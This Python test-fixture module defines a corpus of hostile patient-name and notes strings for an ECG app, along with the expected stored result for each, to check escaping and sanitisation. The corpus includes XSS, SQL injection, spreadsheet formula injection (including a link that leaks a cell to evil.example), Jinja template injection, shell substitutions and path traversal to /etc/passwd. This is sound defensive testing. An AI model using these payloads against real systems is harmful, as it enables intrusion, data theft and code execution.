"""A corpus of hostile and awkward patient text (name or ID, notes), and what the app does with each.

Every way text comes in (the Analyze form, the `/analyze` API, `ecg-app analyze --patient-name/--notes`)
builds the same `store.PatientInfo`, so one set of rules applies everywhere (docs/security.md):

- stored and shown **verbatim**: markup, SQL, spreadsheet formulas, template syntax, paths, any script;
  every layer that shows it escapes it (History tab, PDF) or guards it (CSV: a leading ' before = + - @);
- **cleaned**: leading/trailing whitespace is dropped; control characters (NUL, C0/C1 except tab and line
  breaks), bidi embedding/override/isolate controls and lone surrogates are removed; text is stored in
  Unicode NFC; the one-line name or ID has its line breaks and runs of whitespace turned into one space;
- **refused** with a clear message (nothing stored): a name or ID over 200 characters or notes over
  10,000 characters, after cleaning (never cut silently);
- **absent**: nothing left after cleaning.

`HostileText.name` / `.notes` say, per field, VERBATIM, REFUSED, ABSENT or the exact text stored. The same
corpus runs through the store, CSV, PDF and History HTML (tests/test_hostile_text.py) and the running
app's API (tests/integration/test_security.py); tests/integration/test_browser.py checks one in Chromium.
"""

from __future__ import annotations

from dataclasses import dataclass

from ecg_app.store.repository import MAX_NAME_CHARS, MAX_NOTES_CHARS

VERBATIM = "<verbatim>"  # stored exactly as given
REFUSED = "<refused>"  # ValueError naming the field and its limit; nothing is stored
ABSENT = "<absent>"  # nothing left after cleaning: stored as no value


@dataclass(frozen=True)
class HostileText:
    id: str
    text: str
    notes: str = VERBATIM  # what the notes field stores (VERBATIM, REFUSED, ABSENT or the exact text)
    name: str = VERBATIM  # what the one-line name or ID field stores
    # Fragments pypdf must extract from the PDF (None: the stored text itself); for CJK and emoji they
    # come out only when the Makefile's Noto fonts are installed (without them: boxes and garbled text).
    pdf: tuple[str, ...] | None = None

    def stored(self, field: str) -> str | None:
        """The value `field` ("name" or "notes") is stored as; ValueError if that field is refused."""
        expected = getattr(self, field)
        if expected == REFUSED:
            raise ValueError(f"{self.id}: {field} is refused")
        if expected == ABSENT:
            return None
        return self.text if expected == VERBATIM else expected

    def accepts(self, field: str) -> bool:
        return getattr(self, field) != REFUSED


def _long_notes(length: int) -> str:
    """Short lines (none wraps in the PDF) of markup, template syntax and symbols: `length` characters."""
    text = "\n".join(f"L{i:04d} <b>ST</b> & {{{{x}}}} ✓" for i in range(length // 10))
    return text[: length - 1] + "."


def _words(length: int) -> str:
    """Words with markup, `length` characters, no trailing space."""
    return ("Dr <i>Who</i> " * length)[: length - 1] + "."


LONG_NOTES = _long_notes(MAX_NOTES_CHARS)
LONG_NAME = _words(MAX_NAME_CHARS)

CASES: tuple[HostileText, ...] = (
    # Markup: escaped everywhere it is shown.
    HostileText("script_tag", "<script>alert(1)</script>"),
    HostileText("img_onerror", "<img src=x onerror=alert(1)>"),
    HostileText("attribute_breakout", '"><svg onload=alert(1)>'),
    HostileText("single_quote_breakout", "' autofocus onfocus=alert(1) x='"),
    HostileText("style_and_iframe", "<style>*{display:none}</style><iframe src=//evil.example></iframe>"),
    HostileText("html_entities", "&lt;b&gt;not bold&lt;/b&gt; &amp; &#60;i&#62;"),
    HostileText("markdown_and_latex", "[click](javascript:alert(1)) **bold** $$x^2$$ `code`"),
    # SQL: bound parameters, so stored as text and searched for as text (LIKE wildcards escaped).
    HostileText("sql_drop_table", "Robert'); DROP TABLE analyses; --"),
    HostileText("sql_or_true", "' OR 1=1 --"),
    HostileText("sql_union", "x' UNION SELECT sha256, image_ref FROM images --"),
    HostileText("like_wildcards", "%_%"),
    HostileText("backslashes_and_quotes", 'C:\\Temp \\\' \\" \\\\ O\'Brien "Jr"'),
    # Spreadsheet formulas: stored verbatim, written to CSV with a leading quote.
    HostileText("csv_hyperlink", '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'),
    HostileText("csv_cmd", "+cmd|' /C calc'!A0"),
    HostileText("csv_at_sum", "@SUM(1+1)*cmd|' /C calc'!A0"),
    HostileText("csv_minus", "-2+3+cmd|' /C calc'!A0"),
    HostileText("csv_after_whitespace", "\t =1+1", notes="=1+1", name="=1+1"),
    # Invisible and reordering characters: removed.
    HostileText("control_chars", "A\x00B\x07C\x1bD\x7fE\x85F\x9bG", notes="ABCDEFG", name="ABCDEFG"),
    HostileText("lone_surrogate", "half\ud800pair", notes="halfpair", name="halfpair"),
    HostileText(
        "bidi_override",
        "invoice\u202egnp.exe \u2067isolated\u2069",
        notes="invoicegnp.exe isolated",
        name="invoicegnp.exe isolated",
    ),
    HostileText("line_breaks", "line 1\r\nline 2\n\tindented", name="line 1 line 2 indented"),
    HostileText("zero_width", "zero\u200bwidth\u200djoiner\ufeffbom", pdf=("zerowidthjoinerbom",)),
    # Other scripts: verbatim (NFC), and printed in the PDF (DejaVu, Noto CJK, Noto Color Emoji).
    HostileText("emoji", "❤️ 🫀 👩🏽‍⚕️ 🚑", pdf=("🫀", "🚑")),
    HostileText("cjk", "王小明 患者さん 심전도", pdf=("王小明", "患者さん", "심전도")),
    HostileText("arabic", "مريض أحمد تخطيط القلب", pdf=("مريض", "أحمد", "تخطيط", "القلب")),
    HostileText("greek_cyrillic_latin", "Ωμέγα Пациент Ñandú Øre ß"),
    HostileText("combining_marks", "Z̷̢a̴l̸g̵o̶ t̸e̵x̶t̷"),
    HostileText("decomposed_accents", "Jose\u0301 Nun\u0303ez", notes="José Nuñez", name="José Nuñez"),
    # Template and format syntax: never evaluated (the PDF must not print 49).
    HostileText("jinja_expression", "{{ 7*7 }}"),
    HostileText("jinja_statement", "{% for i in range(3) %}{{ i }}{% endfor %}"),
    HostileText("jinja_ssti", "{{ self.__init__.__globals__.__builtins__ }}"),
    HostileText("format_strings", "%s %d {0} {name} ${HOME} $(id) `id`"),
    # Paths: only ever text.
    HostileText("path_traversal", "../../etc/passwd"),
    HostileText("windows_path", "..\\..\\Windows\\win.ini"),
    # Length: at the limit stored whole; over it refused (never cut).
    HostileText("name_at_limit", LONG_NAME),
    HostileText("name_over_limit", LONG_NAME + "y", name=REFUSED),
    HostileText("notes_at_limit", LONG_NOTES, name=REFUSED, pdf=tuple(LONG_NOTES.splitlines())),
    HostileText("notes_over_limit", LONG_NOTES + "y", notes=REFUSED, name=REFUSED),
    HostileText("whitespace_only", " \n\t\u3000 ", notes=ABSENT, name=ABSENT),
)

# The payload the browser test types into the form: it would set window.__pwned if it ever became markup.
BROWSER_PAYLOAD = "<img src=x onerror=window.__pwned=1>"
